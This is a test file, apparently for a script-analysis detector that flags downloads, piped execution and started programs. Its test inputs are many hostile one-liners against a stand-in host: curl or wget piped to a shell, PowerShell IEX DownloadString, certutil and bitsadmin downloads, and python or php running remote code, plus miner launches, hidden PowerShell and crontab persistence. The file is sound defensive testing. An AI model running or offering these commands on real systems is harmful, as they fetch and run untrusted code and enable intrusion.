import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readScript } from './fetch-command.ts';

const fetched = (text: string): unknown =>
  readScript(text).fetches.map(({ url, tool, target, piped }) => ({ url, tool, target, piped }));
const started = (text: string): string[] => readScript(text).starts.map(({ program }) => program);

describe('readScript sees what is fetched', () => {
  it.each([
    ['curl -fsSL http://h.example/a -o /tmp/x', 'http://h.example/a', 'curl', '/tmp/x', false],
    ['curl -O http://h.example/a.tgz', 'http://h.example/a.tgz', 'curl', 'a.tgz', false],
    ['curl -s http://h.example/a > /tmp/x', 'http://h.example/a', 'curl', '/tmp/x', false],
    ['curl -s http://h.example/a.sh | bash -s x', 'http://h.example/a.sh', 'curl', undefined, true],
    ['curl h.example:8080/a.sh|sh', 'h.example:8080/a.sh', 'curl', undefined, true],
    ['sh -c "$(curl -fsSL http://h.example/a.sh)"', 'http://h.example/a.sh', 'curl', undefined, true],
    ['bash <(curl -s http://h.example/a.sh)', 'http://h.example/a.sh', 'curl', undefined, true],
    ['/usr/bin/wget -q http://h.example/p/a?b=1', 'http://h.example/p/a?b=1', 'wget', 'a', false],
    ['wget -qO- http://h.example/a | sh', 'http://h.example/a', 'wget', undefined, true],
    ['wget http://h.example/a -O /dev/shm/.a', 'http://h.example/a', 'wget', '/dev/shm/.a', false],
    ['wget http://h.example/a -O /dev/null', 'http://h.example/a', 'wget', undefined, false],
    ['wget --output-document=x http://h.example/a', 'http://h.example/a', 'wget', 'x', false],
    [
      'certutil.exe -urlcache -split -f http://h.example/a c:\\a.exe',
      'http://h.example/a',
      'certutil',
      'c:\\a.exe',
      false,
    ],
    [
      'bitsadmin /transfer j /download http://h.example/a c:\\a.exe',
      'http://h.example/a',
      'bitsadmin',
      'c:\\a.exe',
      false,
    ],
    [
      'Invoke-WebRequest -Uri "http://h.example/a" -OutFile "a.exe"',
      'http://h.example/a',
      'invoke-webrequest',
      'a.exe',
      false,
    ],
    [
      "(New-Object Net.WebClient).DownloadFile('http://h.example/a','a.exe')",
      'http://h.example/a',
      'WebClient.DownloadFile',
      'a.exe',
      false,
    ],
    [
      "IEX (New-Object Net.WebClient).DownloadString('http://h.example/a')",
      'http://h.example/a',
      'WebClient.DownloadString',
      undefined,
      true,
    ],
    ['URL=http://h.example/a\nwget $URL -O x', 'http://h.example/a', 'wget', 'x', false],
    ['$u = "http://h.example/a"\niwr $u -OutFile x', 'http://h.example/a', 'iwr', 'x', false],
    ['set U=http://h.example/a\r\ncurl %U% -o x', 'http://h.example/a', 'curl', 'x', false],
    ['curl -L \\\n  http://h.example/a \\\n  -o x', 'http://h.example/a', 'curl', 'x', false],
    ['cd1 -fsSL http://h.example/a.sh | sh', 'http://h.example/a.sh', 'cd1', undefined, true],
    ['lynx -source http://h.example/a.sh | bash', 'http://h.example/a.sh', 'lynx', undefined, true],
    [
      `python3 -c "exec(urllib.request.urlopen('http://h.example/a').read())"`,
      'http://h.example/a',
      'urlopen',
      undefined,
      true,
    ],
    [
      `python -c "import urllib2; print urllib2.urlopen('http://h.example/a').read()" | bash`,
      'http://h.example/a',
      'urlopen',
      undefined,
      true,
    ],
    [
      `php -r "system(file_get_contents('http://h.example/a'));"`,
      'http://h.example/a',
      'file_get_contents',
      undefined,
      true,
    ],
    [
      `python -c "urllib.urlretrieve('http://h.example/a','/tmp/a')"`,
      'http://h.example/a',
      'urlretrieve',
      undefined,
      false,
    ],
  ])('%s', (text, url, tool, target, piped) => {
    expect(fetched(text)).toEqual([{ url, tool, target, piped }]);
  });

  it('hands all that stands in brackets to the shell behind them', () => {
    const call = `python -c "import urllib2 as u; print(u.urlopen('http://h.example/c').read())"`;
    const piped = (text: string): boolean[] => readScript(text).fetches.map((fetch) => fetch.piped);
    expect(piped(`(curl -s http://h.example/a || wget -qO- http://h.example/b || ${call}) | bash`)).toEqual([
      true,
      true,
      true,
    ]);
    expect(piped('{ curl -s http://h.example/a; } | sudo /bin/sh')).toEqual([true]);
    expect(piped('curl -sO http://h.example/a; (cat x) | bash')).toEqual([false]);
    expect(piped('(curl -s http://h.example/a) | jq .')).toEqual([false]);
  });

  it('says where the command stands', () => {
    const text = 'cd /tmp;  curl -O http://h.example/a; ls';
    const [fetch] = readScript(text).fetches;
    expect(text.slice(fetch?.offset, (fetch?.offset ?? 0) + (fetch?.length ?? 0))).toBe('curl -O http://h.example/a');
  });

  it.each([
    'tool --api https://h.example/v1 | jq .',
    'echo "see http://h.example/a" | sh',
    'git clone https://h.example/a | bash',
    'print("get(" + "http://h.example")',
  ])('nothing in %j', (text) => expect(fetched(text)).toEqual([]));

  it.each(['curl --version', 'echo wget is missing', 'apt install curl', 'the curl of a vector field/path'])(
    'nothing in %j',
    (text) => expect(fetched(text)).toEqual([]),
  );
});

describe('readScript sees what is started', () => {
  it.each([
    ['./xmrig -o p:1', 'xmrig'],
    ['nohup sudo /tmp/.x/run >/dev/null 2>&1 &', 'run'],
    ['nice -n 19 ./a', 'a'],
    ['start /b a.exe', 'a.exe'],
    ['Start-Process -FilePath "C:\\t\\a.exe"', 'a.exe'],
    ['ExecStart=/opt/a --b', 'a'],
    ['echo "*/5 * * * * /tmp/a" | crontab -', 'a'],
    ['RUN ["./a", "-o", "p:1"]', 'a'],
    ['ENTRYPOINT ["/opt/a","-o","p:1"]', 'a'],
    ['Start-Process -WindowStyle Hidden C:\\t\\a.exe -ArgumentList "-o p:1"', 'a.exe'],
    ['powershell -w hidden -ep bypass C:\\t\\a.exe', 'a.exe'],
    ['screen -dmS work ./a -o p:1', 'a'],
  ])('%s', (text, program) => expect(started(text)).toContain(program));
});

it('tells a command of a list of words without its quotation marks', () => {
  const [start] = readScript('CMD ["/opt/a","-o","p:1"]').starts;
  expect(start?.command).toBe('/opt/a -o p:1');
});

describe('readScript is total', () => {
  it('takes any text', () => {
    fc.assert(fc.property(fc.string({ maxLength: 2000 }), (text) => readScript(text).fetches.length >= 0));
  });

  it('keeps a bounded number of fetches and says that it cut', () => {
    const script = readScript('curl -O http://h.example/a\n'.repeat(5000));
    expect([script.fetches.length, script.cut]).toEqual([200, true]);
  });

  it('does not blow up on variables that hold each other', () => {
    const doubling = Array.from({ length: 150 }, (_, i) => `v${i + 1}=$v${i}$v${i}$v${i}$v${i}`).join('\n');
    // Written out, they would be larger than any memory.
    const script = readScript(`v0=aaaaaaaaaaaaaaaaaaaa\n${doubling}\n${`curl ${'$v99'.repeat(900)}\n`.repeat(300)}`);
    expect(script.fetches).toEqual([]);
  });

  it.each([' ', 'a=', '$a', '* ', '"', '> ', 'a.', '"$(', '(', '\\\n', ') | sh ', 'get(', 'http://a ', '| sh http://'])(
    'ends on a long run of %j',
    (piece) => {
      // With time by the square, this would take minutes.
      expect(readScript(`curl ${piece.repeat(200_000)}`).fetches.length).toBeLessThanOrEqual(200);
    },
  );
});
